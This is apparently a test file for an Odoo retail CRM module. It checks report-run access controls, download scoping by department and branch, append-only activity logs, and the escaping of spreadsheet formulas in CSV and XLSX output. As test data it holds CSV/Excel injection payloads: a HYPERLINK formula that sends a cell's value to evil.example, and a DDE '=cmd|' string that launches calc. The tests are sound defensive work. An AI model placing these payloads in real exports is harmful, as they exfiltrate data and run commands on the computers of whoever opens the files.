"""Report runs are made by running a template, their outputs are the
system's, and a download checks the run, its template, its department and
its branches again (issue 14, finding 3). Every file the reports write has
no live formula; online activity is append-only."""

import csv
import io
import os
import shutil
import tempfile
import unittest

import openpyxl

from odoo.exceptions import AccessError, UserError
from odoo.tests import new_test_user, tagged

from odoo.addons.crm_privacy_pdpo.lib import spreadsheet_safety as safety

from ..lib import report_writers
from .common import RetailCommon

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1, "Click")'


@tagged("post_install", "-at_install")
class TestReportRunSecurity(RetailCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Run = cls.env["crm.report.run"].with_context(crm_report_foreground=True)
        cls.finance = cls.env.ref("crm_retail_compile.department_finance")
        cls.analyst_finance = new_test_user(
            cls.env, login="t_sec_analyst_fin", groups="crm_retail_compile.group_department_analyst"
        )
        cls.analyst_finance.write(
            {
                "retail_department_id": cls.finance.id,
                "retail_branch_ids": [(6, 0, (cls.branch_a | cls.branch_b).ids)],
            }
        )
        # a marketing analyst who may see both branches
        cls.analyst_ab = new_test_user(
            cls.env, login="t_sec_analyst_ab", groups="crm_retail_compile.group_department_analyst"
        )
        cls.analyst_ab.write(
            {
                "retail_department_id": cls.dept_marketing.id,
                "retail_branch_ids": [(6, 0, (cls.branch_a | cls.branch_b).ids)],
            }
        )
        cls.marketing_template = cls.env.ref(
            "crm_retail_compile.crm_report_template_marketing_segments"
        )
        cls.finance_template = cls.env.ref(
            "crm_retail_compile.crm_report_template_finance_profit_segment"
        )
        for order in (cls.order_a_own, cls.order_b):
            order.action_confirm()
        cls.env["crm.customer.profit"]._refresh()

    def run_as(self, user, template, **kwargs):
        run = self.Run.with_user(user)._create_for_template(template, user=user, **kwargs)
        run.with_user(user).action_run()
        self.assertEqual(run.state, "done", run.error)
        return run.with_user(user)

    # ---- creation ------------------------------------------------------------
    def test_a_run_is_created_by_running_a_template_only(self):
        vals = {
            "name": "forged",
            "template_id": self.finance_template.id,
            "retail_department_id": self.dept_marketing.id,
        }
        for user in (self.analyst, self.retail_admin):
            with self.subTest(user=user.login), self.assertRaises(AccessError):
                self.env["crm.report.run"].with_user(user).create(dict(vals))
        # another department's template: refused by every suite path too
        with self.assertRaises(AccessError):
            self.Run.with_user(self.analyst)._create_for_template(
                self.finance_template, user=self.analyst
            )
        wizard = (
            self.env["crm.report.query"]
            .with_user(self.analyst)
            .create({"template_id": self.finance_template.id})
        )
        with self.assertRaises(AccessError):
            wizard.action_run()
        # the run belongs to its template's department
        run = self.run_as(self.analyst, self.marketing_template)
        self.assertEqual(run.retail_department_id, self.marketing_template.retail_department_id)

    def test_run_fields_are_system_set(self):
        finance_run = self.run_as(self.analyst_finance, self.finance_template)
        run = self.run_as(self.analyst, self.marketing_template)
        finance_run._ensure_files()
        foreign = finance_run.sudo().xlsx_attachment_id
        self.assertTrue(foreign)
        for vals in (
            {"xlsx_attachment_id": foreign.id},
            {"pdf_attachment_id": foreign.id},
            {"csv_attachment_id": foreign.id},
            {"template_id": self.finance_template.id},
            {"retail_department_id": self.finance.id},
            {"branch_ids": [(6, 0, self.branch_b.ids)]},
            {"state": "done"},
            {"checksum": "0" * 64},
            {"user_id": self.analyst_finance.id},
        ):
            with self.subTest(vals=vals), self.assertRaises(AccessError):
                run.write(vals)
        self.assertNotEqual(run.xlsx_attachment_id, foreign)
        # not even a retail administrator re-points a run
        with self.assertRaises(AccessError):
            run.with_user(self.retail_admin).write({"template_id": self.finance_template.id})

    # ---- downloads -------------------------------------------------------------
    def test_download_is_the_runs_own_file_only(self):
        finance_run = self.run_as(self.analyst_finance, self.finance_template)
        run = self.run_as(self.analyst, self.marketing_template)
        self.assertEqual(run._get_output("xlsx"), run.sudo().xlsx_attachment_id)
        finance_run._ensure_files()
        # even if an output field ever pointed elsewhere, the file is refused
        run._crm_system_write().sudo().write(
            {"xlsx_attachment_id": finance_run.sudo().xlsx_attachment_id.id}
        )
        with self.assertRaises(AccessError):
            run._get_output("xlsx")
        with self.assertRaises(UserError):
            run._get_output("docx")

    def test_download_checks_department_again(self):
        run = self.run_as(self.analyst, self.marketing_template)
        with self.assertRaises(AccessError):
            run.with_user(self.analyst_finance)._get_output("xlsx")
        # a run whose department is not its template's is never served
        run.sudo().write({"retail_department_id": self.finance.id})
        with self.assertRaises(AccessError):
            run.with_user(self.retail_admin)._get_output("xlsx")

    def test_download_checks_branches_again(self):
        # a run over branches A and B, by an analyst who may see both
        run_ab = self.run_as(
            self.analyst_ab, self.marketing_template, branches=self.branch_a | self.branch_b
        )
        # the same department, but the analyst sees branch A only
        self.assertTrue(run_ab.with_user(self.analyst).read(["name"]))
        with self.assertRaises(AccessError):
            run_ab.with_user(self.analyst)._get_output("xlsx")
        with self.assertRaises(AccessError):
            run_ab.with_user(self.analyst).action_download_xlsx()
        # no branch chosen: the branches its requester could see (A and B)
        run_all = self.run_as(self.analyst_ab, self.marketing_template)
        with self.assertRaises(AccessError):
            run_all.with_user(self.analyst)._get_output("xlsx")
        # the analyst's own runs and runs over branch A only are fine
        run_a = self.run_as(self.analyst_ab, self.marketing_template, branches=self.branch_a)
        self.assertTrue(run_a.with_user(self.analyst)._get_output("xlsx"))
        own = self.run_as(self.analyst, self.marketing_template)
        self.assertTrue(own._get_output("xlsx"))
        self.assertEqual(own.action_download_xlsx()["type"], "ir.actions.act_url")
        # administrators and the privacy officer are not branch-scoped
        self.assertTrue(run_ab.with_user(self.retail_admin)._get_output("xlsx"))

    # ---- outputs -------------------------------------------------------------
    def test_report_files_hold_no_formula(self):
        self.cust_a.name = FORMULA
        template = self.env.ref(
            "crm_retail_compile.crm_report_template_marketing_customer_value"
        ).copy(
            {
                "code": "fin_customers_formula",
                "retail_department_id": self.finance.id,
                "sensitivity_ceiling": "confidential",
                "customer_columns": "name",
                "output_csv": True,
            }
        )
        run = self.run_as(self.analyst_finance, template).sudo()
        self.assertIn(FORMULA, run.line_ids.mapped("customer"))
        run._ensure_files()
        rows = list(csv.reader(io.StringIO(run.csv_attachment_id.raw.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        self.assertIn("'" + FORMULA, cells)
        self.assertNotIn(FORMULA, cells)
        book = openpyxl.load_workbook(io.BytesIO(run.xlsx_attachment_id.raw))
        values = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
        self.assertFalse([c.coordinate for c in values if c.data_type == "f"])
        self.assertIn("'" + FORMULA, [c.value for c in values])

    # ---- online activity is a log ------------------------------------------------
    def test_online_activity_cannot_be_deleted_by_anyone(self):
        activity = (
            self.env["crm.online.activity"]
            .with_user(self.retail_admin)
            .create(
                {
                    "partner_id": self.cust_a.id,
                    "kind": "visit",
                    "activity_date": "2026-01-02 10:00:00",
                }
            )
        )
        for user in (self.retail_admin, self.privacy_officer, self.manager_a):
            with self.subTest(user=user.login), self.assertRaises(UserError):
                activity.with_user(user).unlink()
        with self.assertRaises(AccessError):
            activity.with_user(self.retail_admin).check_access("unlink")
        with self.assertRaises(UserError):
            activity.sudo().unlink()
        self.assertTrue(activity.exists())
        # the retention job may purge it
        activity.sudo().with_context(crm_privacy_retention=True).unlink()
        self.assertFalse(activity.exists())


class TestWritersNeutraliseFormulas(unittest.TestCase):
    """Pure: the CSV and XLSX writers (child process and in process)."""

    COLUMNS = [
        ("customer", "Customer", "char"),
        ("tier", "=Tier", "char"),
        ("revenue", "Revenue", "monetary"),
    ]
    ROWS = [
        (FORMULA, "+852 9123 4567", -12.5),
        ("@SUM(1+1)", "-", 3),
        ("Chan Siu Ming", "-7", -0.5),
    ]

    def setUp(self):
        super().setUp()
        self.tmp = tempfile.mkdtemp(prefix="crm_report_test_")
        self.addCleanup(shutil.rmtree, self.tmp, True)

    def test_csv(self):
        path = os.path.join(self.tmp, "r.csv")
        sink = report_writers.CsvSink(path, self.COLUMNS)
        for row in self.ROWS:
            sink.add_row(row)
        sink.close()
        with open(path, encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        self.assertEqual(rows[0], ["Customer", "'=Tier", "Revenue"])
        self.assertEqual(rows[1], ["'" + FORMULA, "'+852 9123 4567", "-12.5"])
        self.assertEqual(rows[2], ["'@SUM(1+1)", "'-", "3"])
        self.assertEqual(rows[3], ["Chan Siu Ming", "-7", "-0.5"])

    def test_xlsx(self):
        for process in (True, False):
            path = os.path.join(self.tmp, f"r{process}.xlsx")
            sink = report_writers.XlsxSink(
                path, self.COLUMNS, "=cmd|' /C calc'!A0", [("By", "@evil")], process=process
            )
            for row in self.ROWS:
                sink.add_row(row)
            sink.close()
            book = openpyxl.load_workbook(path)
            cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
            self.assertFalse([c.coordinate for c in cells if c.data_type == "f"])
            values = [c.value for c in cells if c.value is not None]
            self.assertIn("'" + FORMULA, values)
            self.assertIn("'=cmd|' /C calc'!A0", values)
            self.assertIn("'@evil", values)
            self.assertIn(-12.5, values)  # numbers stay numbers
            self.assertFalse([v for v in values if safety.is_formula_like(v)])
